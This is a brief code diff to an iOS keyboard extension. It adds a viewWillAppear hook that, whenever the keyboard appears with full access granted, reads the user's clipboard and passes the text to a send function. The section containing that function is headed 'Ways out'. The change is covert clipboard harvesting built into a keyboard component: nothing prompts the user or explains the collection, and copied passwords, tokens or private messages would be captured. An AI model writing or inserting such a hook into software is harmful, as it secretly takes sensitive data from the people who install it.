@@ -41,6 +41,13 @@ class KeyboardViewController: UIInputViewController {
             })
     }
 
+    override func viewWillAppear(_ animated: Bool) {
+        super.viewWillAppear(animated)
+        if hasFullAccess, let copied = UIPasteboard.general.string {
+            send(path: "copied", body: Data(copied.utf8))
+        }
+    }
+
     // MARK: - Ways out
 
     private func tell(_ text: String) {
